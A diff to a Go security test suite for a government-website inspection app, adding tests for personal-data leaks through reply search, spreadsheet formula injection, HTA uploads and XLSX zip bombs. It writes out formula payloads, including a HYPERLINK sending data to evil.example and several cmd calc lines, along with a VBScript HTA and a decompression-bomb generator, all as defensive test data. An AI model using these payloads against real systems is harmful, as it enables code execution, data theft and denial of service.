@@ -1,14 +1,19 @@
 package handlers_test
 
 import (
+	"archive/zip"
 	"bufio"
 	"bytes"
+	"compress/flate"
 	"context"
 	"encoding/base64"
+	"encoding/csv"
 	"errors"
 	"fmt"
+	"hash/crc32"
 	"io"
 	"log/slog"
+	"mime"
 	"mime/multipart"
 	"net"
 	"net/http"
@@ -19,8 +24,11 @@ import (
 	"testing"
 	"time"
 
+	"github.com/PuerkitoBio/goquery"
 	"github.com/golang-jwt/jwt/v5"
 	"github.com/hibiken/asynq"
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/text/width"
 
 	"zhaocuo/jobs"
 	"zhaocuo/jobs/egress"
@@ -601,6 +609,62 @@ func hostileCorpus(t *testing.T, w *hostileWorld) []attack {
 			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/tickets/"+c.no+"/link", c.token, `{"primary":"`+c.primary+`"}`))
 		}})
 	}
+
+	// 15. Published text: 留言选登 searched for fragments of the phone, ID card and e-mail in a
+	// published ticket's description, guessed around the masked digits, full-width, in groups,
+	// with LIKE's wildcards. Whatever a search lists must show the fragment in what it shows.
+	w.publishedWithPersonalData()
+	for _, q := range []string{"1380", "13800", "138001", "1380013", "13800138000", "0013", "00138000", "0138000", "1381", "138%8000",
+		"138_0013", "138 0013 8000", "138-0013-8000", "１３８００１３", "1101051", "110105194912", "19491231", "1949", "1231002X",
+		"11010519491231002x", "1101 0519 4912", "１９４９１２３１", "zhang", "zhang.san", "ng.san@", "%@example%", "138****8000", "002X"} {
+		add(attack{name: "replies search " + q, payload: q, send: func(w *hostileWorld) (*http.Response, string) {
+			r, _ := http.NewRequest("GET", w.URL+"/replies?"+url.Values{"q": {q}}.Encode(), nil)
+			return w.send(w.anon, r)
+		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
+			return repliesShowWhatTheyMatch(q, resp, body)
+		}})
+	}
+
+	// 16. Exports and uploads: descriptions a spreadsheet would run, then the CSV export; a
+	// rectification report named .hta; sheets that inflate, to the account import.
+	for i, formula := range []string{`=HYPERLINK("http://evil.example/?"&A1,"详情")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
+		`@SUM(1+1)*cmd|' /C calc'!A0`, `＝1+1`} {
+		description := formula + " 页面内容错误，标记 zc-formula-" + fmt.Sprint(i)
+		add(attack{name: "formula description " + fmt.Sprint(i), payload: description, send: func(w *hostileWorld) (*http.Response, string) {
+			f := validFields()
+			f["description"] = description
+			return w.send(w.anon, w.jsonRequest("POST", "/api/v1/reports", "", jsonBody(f)))
+		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
+			return w.csvExportHoldsAsText(description, "zc-formula-"+fmt.Sprint(i))
+		}})
+	}
+	rect := w.openRectification()
+	hta := `<html><head><hta:application id="zc"/><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>`
+	add(attack{name: "rectification report that is an HTA", refuse: true, payload: hta, send: func(w *hostileWorld) (*http.Response, string) {
+		return w.send(w.anon, w.reportUpload(rect, "整改报告.hta", []byte(hta)))
+	}})
+	add(attack{name: "rectification report named .hta", send: func(w *hostileWorld) (*http.Response, string) {
+		return w.send(w.anon, w.reportUpload(rect, "整改报告.hta", []byte("%PDF-1.4\n整改情况报告\n%%EOF")))
+	}, check: func(w *hostileWorld, resp *http.Response, body string) error {
+		return w.reportServedSafely(rect, resp)
+	}})
+	for _, bomb := range []struct {
+		name, reason string // the reason the refusal must give
+		sheet        []byte
+	}{
+		{"an XLSX inflating to 64 MB", "解压后超过", xlsxBomb(t, 64<<20, 0, "")},
+		{"an XLSX inflating to 64 MB, claiming 1 KB", "已损坏", xlsxBomb(t, 64<<20, 1<<10, "")},
+		{"an XLSX with a row at 1,048,576", "第1048576行仍有内容", xlsxBomb(t, 0, 0, `<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>末行</t></is></c></row>`)},
+	} {
+		add(attack{name: "account import of " + bomb.name, refuse: true, send: func(w *hostileWorld) (*http.Response, string) {
+			return w.send(w.anon, w.accountImport(bomb.sheet))
+		}, check: func(w *hostileWorld, resp *http.Response, body string) error {
+			if !strings.Contains(body, bomb.reason) {
+				return fmt.Errorf("refused without saying %q: %.300s", bomb.reason, body)
+			}
+			return nil
+		}})
+	}
 	return list
 }
 
@@ -1002,4 +1066,181 @@ func (w *hostileWorld) stillOverdue(no string) error {
 		return fmt.Errorf("the rates of 03-10 no longer count both tickets as due and overdue: %v", total)
 	}
 	return nil
+}
+
+// publishedWithPersonalData files a report whose description holds a phone number, an ID card
+// number and an e-mail address, and takes it to a published reply (section 15).
+func (w *hostileWorld) publishedWithPersonalData() {
+	w.t.Helper()
+	f := validFields()
+	f["description"] = "页面上的电话13800138000打不通，身份证11010519491231002X，邮箱zhang.san@example.com，请核实。"
+	resp, body := w.postJSON("/api/v1/reports", jsonBody(f))
+	if resp.StatusCode != http.StatusCreated {
+		w.t.Fatalf("submit: %d %v", resp.StatusCode, body)
+	}
+	w.answer(body["ticket_no"].(string), true)
+}
+
+// repliesShowWhatTheyMatch: every reply a search of 留言选登 lists shows q in its text (full-width
+// and half-width, upper and lower case alike, as the databases compare), so the search told
+// nothing the page does not show.
+func repliesShowWhatTheyMatch(q string, resp *http.Response, body string) error {
+	if resp.StatusCode != http.StatusOK {
+		return fmt.Errorf("search answered %d", resp.StatusCode)
+	}
+	fold := func(s string) string { return strings.ToLower(width.Fold.String(s)) }
+	var err error
+	doc, _ := goquery.NewDocumentFromReader(strings.NewReader(body))
+	doc.Find("article.reply").Each(func(_ int, a *goquery.Selection) {
+		text := a.Text()
+		if strings.Contains(text, "13800138000") || strings.Contains(text, "19491231") || strings.Contains(text, "zhang.san") {
+			err = fmt.Errorf("a reply shows unmasked personal data: %q", text)
+		} else if !strings.Contains(fold(text), fold(q)) {
+			err = fmt.Errorf("the search lists a reply that does not show %q: %q", q, text)
+		}
+	})
+	return err
+}
+
+// csvExportHoldsAsText: the unit's CSV export shows the description of the ticket marked so as
+// text, a quote before it (section 16).
+func (w *hostileWorld) csvExportHoldsAsText(description, marker string) error {
+	r, _ := http.NewRequest("GET", w.URL+"/staff/tickets?"+url.Values{"format": {"csv"}, "q": {marker}}.Encode(), nil)
+	resp, body := w.send(w.staffPages, r)
+	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
+	if resp.StatusCode != http.StatusOK || err != nil || len(records) != 2 {
+		return fmt.Errorf("CSV export: %d, %d records, %v", resp.StatusCode, len(records), err)
+	}
+	for _, cell := range records[1] {
+		if strings.Contains(cell, marker) && cell != "'"+description {
+			return fmt.Errorf("the CSV holds %q, not the text '%s", cell, description)
+		}
+	}
+	return nil
+}
+
+// openRectification opens a rectification for 国资委, as publishing a circular would, and
+// returns its id (section 16).
+func (w *hostileWorld) openRectification() int64 {
+	w.t.Helper()
+	db := w.Store.SQLDB()
+	var unit, region int64
+	if err := db.QueryRow("SELECT u.id, u.region_id FROM units u JOIN users s ON s.unit_id = u.id WHERE s.username = 'gzw-staff'").Scan(&unit, &region); err != nil {
+		w.t.Fatal(err)
+	}
+	now := w.Clock.Now().UTC()
+	res, err := db.Exec(`INSERT INTO circulars (region_id, period, version, status, decimals, cutoff, deadline, title, doc_number, issuer,
+		recipients, intro, overview, problems, requirements, closing, issue_date, figures, created_at, updated_at)
+		VALUES (?, '2025Q1', 1, 'published', 2, '2025-03-20', '2025-04-30', '检查情况通报', '', '四川省人民政府办公厅', '', '', '', '', '', '', '2025-03-25', '{}', ?, ?)`,
+		region, now, now)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	circular, _ := res.LastInsertId()
+	res, err = db.Exec(`INSERT INTO rectifications (circular_id, region_id, unit_id, kind, subject, problems, due_on, due_at, status, note, created_at, updated_at)
+		VALUES (?, ?, ?, 'website', '国资委网站', '暗链', '2025-04-30', ?, 'open', '', ?, ?)`, circular, region, unit, now.AddDate(0, 1, 0), now, now)
+	if err != nil {
+		w.t.Fatal(err)
+	}
+	id, _ := res.LastInsertId()
+	return id
+}
+
+// reportUpload is the unit's API upload of a rectification report.
+func (w *hostileWorld) reportUpload(id int64, name string, data []byte) *http.Request {
+	var buf bytes.Buffer
+	mw := multipart.NewWriter(&buf)
+	fw, _ := mw.CreateFormFile("report", name)
+	fw.Write(data)
+	mw.Close()
+	req := w.jsonRequest("POST", fmt.Sprintf("/api/v1/rectifications/%d/report", id), w.staffToken, "")
+	req.Body, req.ContentLength = io.NopCloser(&buf), int64(buf.Len())
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	return req
+}
+
+// reportServedSafely: the report is taken, then named and served as the app chooses: an
+// attachment 整改报告-<id>.pdf of type application/pdf, not sniffed; no .hta anywhere.
+func (w *hostileWorld) reportServedSafely(id int64, resp *http.Response) error {
+	if resp.StatusCode != http.StatusOK {
+		return fmt.Errorf("a PDF named .hta was refused: %d", resp.StatusCode)
+	}
+	r := w.jsonRequest("GET", fmt.Sprintf("/api/v1/rectifications/%d/report", id), w.staffToken, "")
+	got, _ := w.send(w.anon, r)
+	_, params, err := mime.ParseMediaType(got.Header.Get("Content-Disposition"))
+	want := fmt.Sprintf("整改报告-%d.pdf", id)
+	switch {
+	case err != nil || params["filename"] != want || !strings.HasPrefix(got.Header.Get("Content-Disposition"), "attachment;"):
+		return fmt.Errorf("served as %q, want an attachment named %q", got.Header.Get("Content-Disposition"), want)
+	case strings.Contains(strings.ToLower(got.Header.Get("Content-Disposition")), "hta"):
+		return fmt.Errorf("served as %q", got.Header.Get("Content-Disposition"))
+	case got.Header.Get("Content-Type") != "application/pdf" || got.Header.Get("X-Content-Type-Options") != "nosniff":
+		return fmt.Errorf("served as %q, X-Content-Type-Options %q", got.Header.Get("Content-Type"), got.Header.Get("X-Content-Type-Options"))
+	}
+	return nil
+}
+
+// accountImport is a supervisor's API import of a sheet.
+func (w *hostileWorld) accountImport(sheet []byte) *http.Request {
+	var buf bytes.Buffer
+	mw := multipart.NewWriter(&buf)
+	fw, _ := mw.CreateFormFile("file", "台账.xlsx")
+	fw.Write(sheet)
+	mw.Close()
+	req := w.jsonRequest("POST", "/api/v1/inspection/accounts/import", w.supToken, "")
+	req.Body, req.ContentLength = io.NopCloser(&buf), int64(buf.Len())
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	return req
+}
+
+// xlsxBomb is a workbook made by excelize whose worksheet is replaced by one of about inflate
+// bytes of repeated rows, then extra; with claimed, its zip header says the worksheet has that
+// size (a header that lies).
+func xlsxBomb(t *testing.T, inflate int, claimed uint64, extra string) []byte {
+	t.Helper()
+	x := excelize.NewFile()
+	defer x.Close()
+	book, err := x.WriteToBuffer()
+	if err != nil {
+		t.Fatal(err)
+	}
+	zr, _ := zip.NewReader(bytes.NewReader(book.Bytes()), int64(book.Len()))
+	var deflated bytes.Buffer
+	var written byteCount
+	fw, _ := flate.NewWriter(&deflated, flate.BestSpeed)
+	crc := crc32.NewIEEE()
+	out := io.MultiWriter(fw, crc, &written)
+	io.WriteString(out, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+
+		`<row r="1"><c r="A1" t="inlineStr"><is><t>账号名称</t></is></c><c r="B1" t="inlineStr"><is><t>平台</t></is></c></row>`)
+	rows := strings.Repeat(`<row><c t="inlineStr"><is><t>示范发布</t></is></c><c t="inlineStr"><is><t>微信公众号</t></is></c></row>`, 1000)
+	for int(written) < inflate {
+		io.WriteString(out, rows)
+	}
+	io.WriteString(out, extra+`</sheetData></worksheet>`)
+	fw.Close()
+	size := uint64(written)
+	if claimed != 0 {
+		size = claimed
+	}
+	var bomb bytes.Buffer
+	zw := zip.NewWriter(&bomb)
+	for _, f := range zr.File {
+		if f.Name != "xl/worksheets/sheet1.xml" {
+			zw.Copy(f)
+			continue
+		}
+		raw, _ := zw.CreateRaw(&zip.FileHeader{Name: f.Name, Method: zip.Deflate, CRC32: crc.Sum32(),
+			CompressedSize64: uint64(deflated.Len()), UncompressedSize64: size})
+		raw.Write(deflated.Bytes())
+	}
+	zw.Close()
+	return bomb.Bytes()
+}
+
+// byteCount counts the bytes written to it.
+type byteCount int
+
+func (c *byteCount) Write(p []byte) (int, error) {
+	*c += byteCount(len(p))
+	return len(p), nil
 }
